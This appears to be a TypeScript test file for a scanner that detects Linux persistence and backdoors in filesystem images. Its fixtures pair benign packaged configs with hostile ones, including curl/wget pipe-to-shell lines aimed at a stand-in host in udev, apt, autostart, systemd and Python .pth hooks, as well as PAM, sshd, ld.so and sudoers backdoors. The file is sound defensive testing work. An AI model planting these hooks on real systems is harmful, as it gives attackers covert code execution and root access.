/**
 * Persistence and backdoors at rest in the places and shapes real ones take beyond cron and
 * systemd units (udev, apt hooks, XDG autostart, dispatchers, generators, drop-ins, Python .pth
 * files, PAM, library search paths, sshd key files, aliases, nested hidden directories, sudo
 * to a shell, a linked ld.so.preload), and the same files as packages ship them giving nothing.
 * Real files of this machine are used where present (skipped with a reason where absent).
 */
import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import type { ImageFacts, PlacedFile } from '../src/facts/types.js';
import { checkConfigFile, configKind, preloadLinkFindings } from '../src/analyze/persistence/index.js';
import { persistenceRules } from '../src/analyze/persistence/rules.js';
import { checkContext, configOnlyImage } from './secrets-fakes.js';

const rules = persistenceRules();
const C2 = 'http://198.51.100.7';

/** [path, content, expected rule ids]. */
const cases: [string, string, string[]][] = [
  [
    'etc/udev/rules.d/99-usb.rules',
    `ACTION=="add", RUN+="/bin/sh -c 'curl -s ${C2}/u|sh'"\n`,
    ['persistence-fetch-and-run'],
  ],
  ['usr/lib/udev/rules.d/60-x.rules', 'KERNEL=="sd*", RUN{program}+="/usr/lib/udev/x-helper $kernel"\n', []],
  [
    'etc/apt/apt.conf.d/99update',
    `APT::Update::Pre-Invoke {"wget -qO- ${C2}/a | sh"};\n`,
    ['persistence-fetch-and-run'],
  ],
  [
    'etc/apt/apt.conf.d/docker-clean',
    'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb || true"; };\n',
    [],
  ],
  [
    'etc/xdg/autostart/upd.desktop',
    `[Desktop Entry]\nExec=sh -c "curl -s ${C2}/x | bash"\n`,
    ['persistence-fetch-and-run'],
  ],
  [
    'home/u/.config/autostart/a.desktop',
    '[Desktop Entry]\nExec=/dev/shm/.a\n',
    ['persistence-runs-from-hidden-or-temp'],
  ],
  [
    'etc/NetworkManager/dispatcher.d/99-up',
    `#!/bin/sh\nwget -qO- ${C2}/n | sh\n`,
    ['persistence-fetch-and-run'],
  ],
  ['etc/update-motd.d/99-news', `#!/bin/sh\ncurl -s ${C2}/m | bash\n`, ['persistence-fetch-and-run']],
  ['etc/network/if-up.d/zz', '#!/bin/sh\n/var/tmp/.n &\n', ['persistence-runs-from-hidden-or-temp']],
  [
    'usr/lib/systemd/system-generators/gen',
    `#!/bin/sh\ncurl -s ${C2}/g | sh\n`,
    ['persistence-fetch-and-run'],
  ],
  ['usr/lib/systemd/system-generators/systemd-fstab-generator', '\x7fELF\x02\x01\x01\0\0\0curl x|sh', []],
  [
    'etc/systemd/system/ssh.service.d/override.conf',
    `[Service]\nExecStartPre=/bin/sh -c "curl -s ${C2}/y|sh"\n`,
    ['persistence-fetch-and-run'],
  ],
  ['etc/rc3.d/S99local', '#!/bin/sh\n/dev/shm/.x &\n', ['persistence-runs-from-hidden-or-temp']],
  ['etc/periodic/15min/sync', `#!/bin/sh\nwget -qO- ${C2}/p | sh\n`, ['persistence-fetch-and-run']],
  // Python runs every .pth import line at start-up.
  [
    'usr/local/lib/python3.11/site-packages/zz.pth',
    'import os;os.system("curl -s http://198.51.100.7/p|sh")\n',
    ['persistence-fetch-and-run', 'persistence-python-startup-hook'],
  ],
  [
    'usr/lib/python3/dist-packages/a.pth',
    "import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n",
    ['persistence-python-startup-hook'],
  ],
  [
    'usr/lib/python3/dist-packages/distutils-precedence.pth',
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
    [],
  ],
  ['usr/local/lib/python3.11/site-packages/_virtualenv.pth', 'import _virtualenv\n', []],
  ['usr/local/lib/python3.11/site-packages/easy-install.pth', './pkg-1.0-py3.egg\n', []],
  // PAM
  ['etc/pam.d/common-auth', 'auth sufficient /tmp/.p/pam_unix.so\n', ['backdoor-pam-module']],
  ['etc/pam.d/sshd', 'auth sufficient pam_permit.so\n@include common-auth\n', ['backdoor-pam-module']],
  [
    'etc/pam.d/su',
    'auth optional pam_exec.so quiet expose_authtok /usr/local/bin/.hook\n',
    ['backdoor-pam-module'],
  ],
  [
    'etc/pam.d/common-auth',
    'auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n',
    [],
  ],
  ['etc/pam.d/login', 'session optional /lib/x86_64-linux-gnu/security/pam_motd.so\n', []],
  // library search paths and sshd's key files
  ['etc/ld.so.conf.d/zz.conf', '/tmp/.lib\n', ['persistence-ld-so-conf-hijack']],
  [
    'etc/ld.so.conf.d/x86_64-linux-gnu.conf',
    '# Multiarch support\n/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n',
    [],
  ],
  ['etc/ld.so.conf', 'include /etc/ld.so.conf.d/*.conf\n', []],
  ['etc/ssh/sshd_config.d/keys.conf', 'AuthorizedKeysFile /etc/ssh/.keys\n', ['backdoor-sshd-key-location']],
  ['etc/ssh/sshd_config', 'AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/authorized_keys/%u\n', []],
  // shell hooks: aliases, `if ... then`, nested hidden directories, interpreters of downloads
  ['root/.bashrc', 'alias sudo="/tmp/.s/sudo"\n', ['persistence-runs-from-hidden-or-temp']],
  [
    'home/u/.bashrc',
    'if [ -x /dev/shm/.a ]; then /dev/shm/.a & fi\n',
    ['persistence-runs-from-hidden-or-temp'],
  ],
  ['root/.bashrc', "alias ll='ls -alF'\nalias grep='grep --color=auto'\n", []],
  [
    'var/spool/cron/crontabs/pg',
    '@hourly /var/lib/postgresql/.cache/.s/x\n',
    ['persistence-runs-from-hidden-or-temp'],
  ],
  ['var/spool/cron/crontabs/u', '@daily /home/u/.local/bin/backup\n', []],
  ['home/u/.profile', `nohup python3 -c "$(curl -fsSL ${C2}/p)" &\n`, ['persistence-fetch-and-run']],
  // sudo to a shell is root without a password
  ['etc/sudoers.d/91', 'nobody ALL=(root) NOPASSWD: /bin/bash\n', ['persistence-sudoers-nopasswd-shell']],
  [
    'etc/sudoers.d/92',
    'app ALL=(root) NOPASSWD: /usr/bin/systemctl restart app, /usr/bin/python3\n',
    ['persistence-sudoers-nopasswd-shell'],
  ],
  ['etc/sudoers.d/93', 'backup ALL=(root) NOPASSWD: /usr/bin/rsync, /usr/bin/systemctl restart app\n', []],
];

for (const [path, content, want] of cases) {
  test(`persistence disguise: ${path} ${JSON.stringify(content.slice(0, 40))} → ${want.join(', ') || 'nothing'}`, () => {
    assert.ok(configKind(path), `${path} is read`);
    const hits = checkConfigFile(path, content, rules);
    assert.deepEqual(hits.map((h) => h.rule).sort(), [...want].sort(), JSON.stringify(hits));
  });
}

test("persistence disguise: this machine's own hook files give nothing", (t) => {
  const dirs = [
    'etc/pam.d',
    'etc/apt/apt.conf.d',
    'etc/ld.so.conf.d',
    'etc/ssh/sshd_config.d',
    'usr/lib/udev/rules.d',
    'etc/update-motd.d',
  ];
  const files = ['etc/ssh/sshd_config', 'etc/ld.so.conf', 'etc/sudoers', 'etc/pam.conf'];
  for (const d of dirs) if (existsSync(`/${d}`)) for (const f of readdirSync(`/${d}`)) files.push(join(d, f));
  const present = files.filter((f) => configKind(f) && existsSync(`/${f}`));
  if (present.length < 5) {
    t.skip(`only ${present.length} hook files on this machine`);
    return;
  }
  for (const f of present) {
    let text: string;
    try {
      text = readFileSync(`/${f}`, 'utf8');
    } catch {
      continue; // unreadable (a socket, a directory): not a file a package ships
    }
    assert.deepEqual(checkConfigFile(f, text, rules), [], `${f} is a packaged file`);
  }
});

function tree(entries: PlacedFile[]): ImageFacts {
  return { tree: new Map(entries.map((e) => [e.path, e])), layers: [] } as unknown as ImageFacts;
}

test('persistence disguise: etc/ld.so.preload as a link is reported; a link to /dev/null is not', () => {
  const link = (linkTarget: string): PlacedFile =>
    ({
      path: 'etc/ld.so.preload',
      type: 'symlink',
      linkTarget,
      layer: 0,
      mode: 0o777,
      uid: 0,
      gid: 0,
      size: 0,
    }) as unknown as PlacedFile;
  const image = configOnlyImage({});
  const hit = preloadLinkFindings(checkContext(image, tree([link('../var/lib/.pl')])));
  assert.deepEqual(
    hit.map((h) => [h.rule, h.severity, h.path]),
    [['backdoor-ld-so-preload', 'high', 'etc/ld.so.preload']],
    'link reported',
  );
  assert.match(hit[0]!.evidence, /var\/lib\/\.pl/, 'names the target');
  assert.deepEqual(preloadLinkFindings(checkContext(image, tree([link('/dev/null')]))), [], '/dev/null');
  assert.deepEqual(preloadLinkFindings(checkContext(image, tree([]))), [], 'absent');
});
